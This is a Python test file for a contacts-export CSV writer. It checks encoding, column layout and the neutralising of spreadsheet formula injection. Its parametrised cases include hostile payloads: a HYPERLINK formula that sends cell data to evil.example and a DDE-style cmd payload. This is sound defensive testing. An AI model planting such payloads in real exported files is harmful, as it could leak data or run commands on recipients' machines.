"""CSV output: Excel-friendly bytes, and no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from datetime import date
from typing import Any

import pytest

from connectors.csv_writer import CSV_COLUMNS, csv_bytes, neutralise
from connectors.export_records import ExportedContact, Labelled


def contact(**fields: Any) -> ExportedContact:
    values: dict[str, Any] = {
        "contact_id": 1,
        "display_name": "Ana Costa",
        "first_name": "Ana",
        "last_name": "Costa",
    }
    values.update(fields)
    return ExportedContact(**values)


def read_back(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_bom_crlf_and_header() -> None:
    data = csv_bytes([contact()])
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\r\n") == 2 and data.count(b"\n") == 2
    assert data[3:].split(b"\r\n")[0].decode() == ",".join(CSV_COLUMNS)


def test_every_field_lands_in_its_column() -> None:
    row = read_back(
        csv_bytes(
            [
                contact(
                    company="Acme, Inc.",
                    position="CTO",
                    emails=(Labelled("ana@acme.example", "work"), Labelled("ana@home.example")),
                    phones=(Labelled("030 1234", "work"),),
                    linkedin_url="https://www.linkedin.com/in/ana",
                    urls=(Labelled("https://ana.example"),),
                    location="Lisbon",
                    birthday="--04-12",
                    connected_on=date(2024, 3, 12),
                    how_met="PyCon",
                    circle="Close",
                    cadence_days=30,
                    tags=("data", "sailing"),
                    last_touch_on=date(2026, 11, 20),
                    notes='Said "hi"\nsecond line',
                )
            ]
        )
    )[0]
    assert row == {
        "Name": "Ana Costa",
        "First Name": "Ana",
        "Last Name": "Costa",
        "Company": "Acme, Inc.",
        "Position": "CTO",
        "Emails": "ana@acme.example; ana@home.example",
        "Phones": "030 1234",
        "LinkedIn": "https://www.linkedin.com/in/ana",
        "Other URLs": "https://ana.example",
        "Location": "Lisbon",
        "Birthday": "'--04-12",  # Excel would compute --04-12 as -8
        "Connected On": "2024-03-12",
        "How Met": "PyCon",
        "Circle": "Close",
        "Cadence (days)": "30",
        "Tags": "data; sailing",
        "Last Touch": "2026-11-20",
        "Notes": 'Said "hi"\nsecond line',
    }


@pytest.mark.parametrize(
    "payload",
    [
        '=HYPERLINK("http://evil.example?x="&A1,"Click")',
        "+1",
        "-2",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1",
        "\r=1",
        "=1+1\n",
    ],
)
def test_formula_payloads_are_neutralised_in_every_column(payload: str) -> None:
    hostile = contact(
        display_name=payload,
        first_name=payload,
        company=payload,
        position=payload,
        emails=(Labelled(payload),),
        location=payload,
        tags=(payload,),
        notes=payload,
        circle=payload,
    )
    row = read_back(csv_bytes([hostile]))[0]
    for column in (
        "Name",
        "First Name",
        "Company",
        "Position",
        "Emails",
        "Location",
        "Tags",
        "Notes",
        "Circle",
    ):
        assert row[column] == "'" + payload, column


@pytest.mark.parametrize("harmless", ["Ana", "", "'quoted", " =not at start", "a=b", "Zoë 🎉", "5 + 3"])
def test_harmless_cells_are_left_alone(harmless: str) -> None:
    assert neutralise(harmless) == harmless


def test_unicode_survives_and_many_rows_keep_their_order() -> None:
    people = [
        contact(contact_id=i, display_name=name) for i, name in enumerate(["Zoë", "李小龍", "Ωmega 🎉"])
    ]
    assert [r["Name"] for r in read_back(csv_bytes(people))] == ["Zoë", "李小龍", "Ωmega 🎉"]
